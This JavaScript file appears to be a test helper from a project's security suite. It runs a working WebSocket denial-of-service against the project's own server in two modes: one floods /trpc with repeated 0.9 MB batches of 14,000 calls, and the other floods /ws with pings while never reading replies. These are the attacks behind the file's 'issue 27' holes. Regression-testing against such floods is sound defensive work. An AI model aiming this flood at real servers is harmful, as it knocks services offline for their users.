// One account attacking the server through its sockets, in a process of its own so its loops
// never slow the bystander's timings. argv: <mode> <baseUrl> <token>; runs until killed.
//   batches: 18 sockets on /trpc, each sending one 0.9 MB message of 14,000 calls, again and
//            again (the attack of issue 27, hole 2);
//   pings:   20 sockets on /ws sending {"type":"ping"} in a loop without reading (hole 3).
import WebSocket from 'ws';

const [mode, baseUrl, token] = process.argv.slice(2);
const wsBase = String(baseUrl).replace('http', 'ws');
let sent = 0;
let opened = 0;

// About 0.9 MB: under the 1 MiB the server took before issue 27.
const batch = JSON.stringify(
  Array.from({ length: 14_000 }, (_, i) => ({
    id: i + 1,
    method: 'query',
    params: { path: 'documents.list' },
  })),
);
const ping = JSON.stringify({ type: 'ping' });

/** Keeps one socket of the attack open: a closed one is opened again after a short pause. */
function keep(open) {
  const again = () => setTimeout(() => keep(open), 20);
  const socket = open();
  opened += 1;
  socket.on('error', () => {});
  socket.once('close', again);
}

const attacks = {
  batches: () =>
    keep(() => {
      const socket = new WebSocket(`${wsBase}/trpc?connectionParams=1`);
      socket.once('open', () => {
        socket.send(JSON.stringify({ method: 'connectionParams', data: { token } }));
        const fire = () => {
          if (socket.readyState !== WebSocket.OPEN) return;
          socket.send(batch);
          sent += 1;
          setTimeout(fire, 50);
        };
        fire();
      });
      return socket;
    }),
  pings: () =>
    keep(() => {
      const socket = new WebSocket(`${wsBase}/ws`);
      socket.once('open', () => {
        socket.send(JSON.stringify({ type: 'auth', token }));
        socket.pause();
        const flood = () => {
          if (socket.readyState !== WebSocket.OPEN) return;
          for (let i = 0; i < 1_000; i++) socket.send(ping);
          sent += 1_000;
          setImmediate(flood);
        };
        setTimeout(flood, 100);
      });
      return socket;
    }),
};

const sockets = mode === 'batches' ? 18 : 20;
for (let i = 0; i < sockets; i++) attacks[/** @type {'batches' | 'pings'} */ (mode)]();
process.on('SIGTERM', () => {
  process.send?.({ sent, opened });
  setTimeout(() => process.exit(0), 100);
});
